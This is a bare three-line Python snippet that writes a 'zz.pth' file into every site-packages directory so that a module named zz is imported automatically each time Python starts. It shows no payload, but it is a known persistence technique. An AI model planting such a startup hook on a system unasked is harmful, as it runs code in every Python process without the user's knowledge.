import site, os
for d in site.getsitepackages():
    open(os.path.join(d, 'zz.pth'), 'w').write('import zz')
